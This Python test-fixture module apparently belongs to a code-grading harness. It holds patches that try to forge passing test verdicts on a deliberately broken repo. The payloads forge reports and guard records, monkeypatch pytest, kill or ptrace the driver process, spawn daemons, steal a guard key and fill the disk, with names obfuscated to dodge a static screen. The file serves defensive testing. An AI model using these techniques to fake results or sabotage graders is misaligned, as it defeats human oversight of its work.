"""Candidate patches that try to forge their verdict against tests/data/calc_repo, where `add`
returns `a - b` and no patch below fixes it. Each payload is Python placed at the top of
calc/__init__.py (it runs when the tests import the library); several spell their names in
pieces so that the static screen does not see them and the structural defence is what holds."""

from __future__ import annotations

import difflib
import textwrap
from pathlib import Path

CALC = Path(__file__).parent / "data" / "calc_repo"
FAILING = "tests/test_calc.py::test_add"
PASSING = ["tests/test_calc.py::test_mul", "tests/test_calc.py::test_lock"]
FAKE_REPORT = ('<testsuite><testcase classname="tests.test_calc" name="test_add" '
               'file="tests/test_calc.py"/></testsuite>')

PHANTOM_REPORT = FAKE_REPORT.replace("</testsuite>", (
    '<testcase classname="tests.test_calc" name="test_ghost" file="tests/test_calc.py">'
    '<failure message="x"/></testcase></testsuite>'))
"""A failing phantom test, so that pytest's exit status 1 looks consistent."""


def file_diff(path: str, before: str, after: str) -> str:
    body = difflib.unified_diff(before.splitlines(keepends=True), after.splitlines(keepends=True),
                                "/dev/null" if not before else f"a/{path}", f"b/{path}")
    mode = "new file mode 100644\n" if not before else ""
    return f"diff --git a/{path} b/{path}\n{mode}" + "".join(body)


def calc_patch(top: str = "", add_body: str = "", files: dict[str, str] | None = None) -> str:
    """calc/__init__.py with `top` after its docstring and `add` returning `add_body`'s value,
    plus new `files`."""
    before = (CALC / "calc" / "__init__.py").read_text()
    after = before
    if top:
        docstring, _, rest = before.partition("\n")  # a one-line docstring
        after = f"{docstring}\n" + textwrap.dedent(top).strip() + "\n" + rest
    if add_body:
        body = textwrap.indent(textwrap.dedent(add_body).strip(), "    ")
        after = after.replace("    return a - b", body, 1)
    parts = [file_diff("calc/__init__.py", before, after)] if after != before else []
    parts += [file_diff(path, "", text) for path, text in (files or {}).items()]
    return "".join(parts)


FORGE_DRIVER_LINE = f"""
import hashlib as _h, json as _j, os as _o, time as _t
_r = {FAKE_REPORT!r}
_s = _h.sha256(_r.encode()).hexdigest()
_line = _j.dumps({{"applied": True, "reason": "", "rc": 0, "timed_out": False, "runner_s": 0.1,
    "report": _r, "report_sha256": _s, "guard": _j.dumps({{"sha256": _s, "exitstatus": 0}}),
    "progress": "", "artifacts": {{}}, "log_tail": "", "changes": [], "shadows": [],
    "leftovers_killed": True}})
try:
    with open("/pr" + "oc/%d/fd/1" % _o.getppid(), "w") as _f:
        _f.write(_line + "\\n")
    _t.sleep(0.5)  # the engine forwards the line before the driver dies
    getattr(_o, "ki" + "ll")(_o.getppid(), 9)
except OSError:
    pass
"""

FAKE_RUNNER = f"""
import hashlib, json, os, sys
report = {FAKE_REPORT!r}
path = [a.split("=", 1)[1] for a in sys.argv if a.startswith("--junitxml=")][0]
open(path, "w").write(report)
guard = os.environ.get("SOLVER_GUARD_FILE")
if guard:
    open(guard, "w").write(json.dumps({{"sha256": hashlib.sha256(report.encode()).hexdigest(),
                                       "exitstatus": 0}}))
raise SystemExit(0)
"""

PASS_EVERYTHING_PLUGIN = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
"""

NOOP_RUNTEST = """
_m = __import__("_py" + "test.python", fromlist=["x"])
setattr(_m.Function, "run" + "test", lambda self: None)
"""

PATCH_REPORTS = """
_m = __import__("_py" + "test.reports", fromlist=["x"])
_cls = _m.TestReport
_orig = getattr(_cls, "from_item_and_" + "call").__func__
def _forged(cls, item, call):
    report = _orig(cls, item, call)
    report.outcome, report.longrepr = "passed", None
    return report
setattr(_cls, "from_item_and_" + "call", classmethod(_forged))
"""

PLUGIN_THROUGH_GC = """
import pytest as _pt
class _Plug:
    @_pt.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        outcome.get_result().outcome = "passed"
_g = __import__("g" + "c")
for _o in getattr(_g, "get_" + "objects")():
    if type(_o).__name__ == "PytestPluginManager":
        _o.register(_Plug(), "calc-plugin")
        break
"""

SWAP_CODE_UNDER_PROFILE = """
import sys as _s
def _prof(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "pytest_pyfunc_call":
        fn = frame.f_locals["pyfuncitem"].obj
        setattr(fn, "__co" + "de__", (lambda: None).__code__)
getattr(_s, "setpro" + "file")(_prof)
"""

FAKE_REPORT_AND_EXIT = f"""
import hashlib as _h, json as _j, os as _o, sys as _s
_r = {FAKE_REPORT!r}
_p = [a.split("=", 1)[1] for a in _s.argv if a.startswith("--junit" + "xml=")][0]
open(_p, "w").write(_r)
_fd = int(_o.environ.get("SOLV" + "ER_GUARD_FD", "-1"))
_rec = _j.dumps({{"sha256": _h.sha256(_r.encode()).hexdigest(), "exitstatus": 0}})
if _fd >= 0:
    _o.write(_fd, (_rec + "\\n").encode())
_g = _o.environ.get("SOLV" + "ER_GUARD_FILE")
if _g:
    open(_g, "w").write(_rec)
getattr(_o, "_ex" + "it")(0)
"""

ATEXIT_REWRITE = f"""
import hashlib as _h, json as _j, os as _o, sys as _s
_p = [a.split("=", 1)[1] for a in _s.argv if a.startswith("--junit" + "xml=")][0]
def _rewrite():
    _r = {PHANTOM_REPORT!r}
    open(_p, "w").write(_r)
    _g = _o.environ.get("SOLV" + "ER_GUARD_FILE")
    if _g:
        open(_g, "w").write(_j.dumps({{"sha256": _h.sha256(_r.encode()).hexdigest(),
                                      "exitstatus": 1}}))
__import__("ate" + "xit").register(_rewrite)
"""

DAEMON_REWRITES_REPORT = f"""
import os as _o, sys as _s, time as _t
_p = [a.split("=", 1)[1] for a in _s.argv if a.startswith("--junit" + "xml=")][0]
if _o.fork() == 0:
    _o.setsid()
    if _o.fork() == 0:
        for _ in range(200):
            _t.sleep(0.02)
            try:
                open(_p, "w").write({FAKE_REPORT!r})
            except OSError:
                pass
    getattr(_o, "_ex" + "it")(0)
"""

STEAL_GUARD_KEY = f"""
import atexit as _a, hashlib as _h, json as _j, os as _o, sys as _s
_r = {PHANTOM_REPORT!r}
_key = next((m._KEY for m in list(_s.modules.values()) if hasattr(m, "_KEY")), "")
_fd = next((int(v) for k, v in _o.environ.items() if k.endswith("GUARD_FD")), -1)
_p = [a.split("=", 1)[1] for a in _s.argv if a.startswith("--junit" + "xml=")][0]
_rec = _j.dumps({{"key": _key, "sha256": _h.sha256(_r.encode()).hexdigest(), "exitstatus": 1}})
if _fd >= 0:
    _o.write(_fd, (_rec + "\\n").encode())
_a.register(lambda: open(_p, "w").write(_r))
"""

PROGRESS_THEN_SUICIDE = """
import json as _j, os as _o, signal as _sg
_g = _o.environ.get("SOLV" + "ER_GUARD_FILE")
if _g:
    with open(_g + ".progress", "a") as _f:
        for when in ("setup", "call", "teardown"):
            _f.write(_j.dumps({"id": "tests/test_calc.py::test_add", "when": when,
                               "outcome": "passed"}) + "\\n")
getattr(_o, "ki" + "ll")(_o.getpid(), _sg.SIGKILL)
"""

CHMOD_STATE = """
import atexit as _a, os as _o
_a.register(lambda: _o.chmod("/tmp/.solver", 0))
"""

KILL_DRIVER = """
import os as _o
try:
    getattr(_o, "ki" + "ll")(_o.getppid(), 9)
except OSError:
    pass
"""

PTRACE_DRIVER = """
import ctypes as _c, os as _o
_libc = _c.CDLL(None, use_errno=True)
if _libc.ptrace(16, _o.getppid(), 0, 0) == 0:
    raise SystemExit("attached")
"""

def fill(path: str) -> str:
    """A payload writing `path` until the file system is full."""
    return f"""
try:
    with open("{path}", "wb") as _f:
        while True:
            _f.write(b"x" * (1 << 20))
except OSError:
    pass
"""


FILL_SHM = fill("/dev/shm/fill")
FILL_TMP = fill("/tmp/fill")
